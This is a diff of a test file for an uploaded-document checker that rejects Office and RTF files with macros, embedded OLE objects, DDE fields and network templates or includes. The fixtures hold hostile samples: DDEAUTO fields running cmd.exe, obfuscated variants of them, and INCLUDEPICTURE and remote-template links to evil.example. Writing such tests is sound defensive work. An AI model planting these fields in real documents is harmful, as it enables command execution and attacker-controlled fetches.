@@ -5,8 +5,8 @@ import { expect, test } from "vitest";
 import { demoMedia } from "#server/testing/test-database.ts";
 import { doc, docx, packageOf } from "../files-for-tests.ts";
 import { checkOffice } from "./check-office.ts";
-import { isOldWordDocument } from "./compound-file.ts";
 import { packageType } from "./office-package.ts";
+import { isOldWordDocument } from "./old-word.ts";
 import { demandPlainRtf } from "./rich-text.ts";
 
 const types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
@@ -49,32 +49,33 @@ test.each<[string, Buffer, RegExp]>([
     /макросы/,
   ],
   ["an object by its type", contentType("vnd.openxmlformats-officedocument.oleObject"), /вложен/],
-  ["an object in a sheet", workbook({ "xl/worksheets/sheet1.xml": '<oleObject progId="Package"/>' }), /вложен/],
-  ["a link to an object in a sheet", workbook({ "xl/externalLinks/a.xml": '<x:oleLink progId="Package"/>' }), /вложен/],
-  ["an object on a slide", docx({ "ppt/slides/slide1.xml": '<p:oleObj progId="Package"/>' }), /вложен/],
-  ["an object that is embedded in a run", paragraph('<w:objectEmbed w:progId="Package"/>'), /вложен/],
-  ["an object that is linked in a run", paragraph('<w:objectLink w:progId="Package"/>'), /вложен/],
   ["ActiveX at the root", docx({ "activeX/activeX1.bin": "x" }), /вложен/],
   ["macros of Excel 4 at the root", workbook({ "MacroSheets/sheet1.xml": "<m/>" }), /макросы/],
-  ["an object behind a mark and spaces", docx({ "word/a": Buffer.from("\ufeff\n <w:objectLink/>") }), /вложен/],
+  [
+    "an object behind a mark and spaces",
+    docx({ "word/a": Buffer.from('\ufeff\n <Relationship Type="oleObject"/>') }),
+    /вложен/,
+  ],
   ["an object of OLE", docx({ "word/embeddings/oleObject12.bin": "x" }), /вложен/],
   ["an object under the name of a picture", docx({ "word/media/image1.png": compound }), /вложен/],
-  ["a tag of an object", paragraph('<w:object><o:OLEObject Type="Embed"/></w:object>'), /вложен/],
   ["ActiveX", docx({ "word/activeX/activeX1.xml": "<ax:ocx/>" }), /вложен/],
   ["another file that Word reads in", relations("aFChunk", "chunk.rtf", "Internal"), /вложен/],
-  ["DDE", paragraph(field(instruction(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))), /DDE/],
-  ["DDE strewn over runs", paragraph(field(instruction("DD"), instruction("E cmd"))), /DDE/],
-  ["DDE in a simple field", paragraph('<w:fldSimple w:instr=" dde cmd"/>'), /DDE/],
-  ["DDE under a prefix of its own", paragraph('<x:fldSimple x:instr="DDEAUTO cmd"/>'), /DDE/],
-  ["DDE in a header, by references", docx({ "word/header1.xml": '<w:fldSimple w:instr="D&#68;E cmd"/>' }), /DDE/],
-  ["DDE in letters of two bytes", docx({ "word/document.xml": utf16('<w:fldSimple w:instr="DDE cmd"/>') }), /DDE/],
   [
-    "a field whose name another field works out",
-    paragraph(field(field(instruction("QUOTE 68 68 69")), instruction("cmd"))),
-    /DDE/,
+    "an object in letters of two bytes",
+    docx({ "word/_rels/a.rels": utf16('<Relationship Type="oleObject"/>') }),
+    /вложен/,
+  ],
+  [
+    "a picture of the network, strewn over runs",
+    paragraph(field(instruction("INCLUDE"), instruction("PICTURE //evil/a"))),
+    /из\u00a0сети/,
+  ],
+  [
+    "a text of the network in a simple field",
+    paragraph('<x:fldSimple x:instr="includetext \\! http://evil.example/a"/>'),
+    /из\u00a0сети/,
   ],
   ["a picture of the network", paragraph(field(instruction('INCLUDEPICTURE "http://evil.example/a"'))), /из\u00a0сети/],
-  ["DDE in a workbook", workbook({ "xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd"/>' }), /DDE/],
   ["a template from the network", relations("attachedTemplate", "https://evil.example/a.dotm"), /шаблон/],
   [
     "a template from another machine",
@@ -180,10 +181,8 @@ test("a part that cannot be unpacked is refused with an explanation", () => {
 test.each<[string, Buffer, RegExp]>([
   ["macros", doc("_VBA_PROJECT"), /макросы/],
   ["macros in other letters", doc("_vba_Project_cur"), /макросы/],
-  ["an object", doc("_1234567890"), /вложен/],
+  ["an object", doc("\u0001Ole"), /вложен/],
   ["a file in a wrapper", doc("\u0001Ole10Native"), /вложен/],
-  ["DDE", Buffer.concat([doc(), Buffer.from("\u0013 DDEAUTO cmd \u0015", "latin1")]), /DDE/],
-  ["DDE in letters of two bytes", Buffer.concat([doc(), Buffer.from("\u0013dde cmd", "utf16le")]), /DDE/],
   [
     "a template from the network",
     Buffer.concat([doc(), Buffer.from("http://evil.example/a.dotm", "utf16le")]),
@@ -201,12 +200,13 @@ test("an old document is accepted, also with the empty storage of objects that W
 test.each<[string, string, RegExp]>([
   ["an object", "{\\object\\objemb{\\*\\objdata 0105}}", /вложен/],
   ["a link that is followed by itself", "{\\object\\objautlink}", /вложен/],
-  ["DDE", "{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd}}", /DDE/],
   ["a picture of the network", '{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/a.png"}}', /из\u00a0сети/],
-  ["DDE behind a text", " раз {\\field{\\*\\fldinst DDE cmd}}", /DDE/],
-  ["DDE behind words of its form", "{\\field{\\*\\fldinst{\\b\\i DDE cmd}}}", /DDE/],
-  ["DDE in numbers alone", "{\\uc0\\field{\\*\\fldinst \\u68 \\u68 E cmd}}", /DDE/],
-  ["DDE in groups and numbers", "{\\field{\\*\\fldinst {\\rtlch \\u68?\\'44E cmd}}}", /DDE/],
+  ["a picture behind words of its form", "{\\field{\\*\\fldinst{\\b\\i INCLUDEPICTURE //evil/a}}}", /из\u00a0сети/],
+  [
+    "a picture in groups and numbers",
+    "{\\field{\\*\\fldinst {\\rtlch \\u73?\\'4eCLUDEPICTURE //evil/a}}}",
+    /из\u00a0сети/,
+  ],
   ["a template from the network", "{\\*\\template http://evil.example/a.dotm}", /шаблон/],
   ["a template behind a space", "{\\* \\template http://evil.example/a.dotm}", /шаблон/],
   ["a template in numbers", "{\\*\\template \\u104?\\u116?tp://evil.example/a}", /шаблон/],
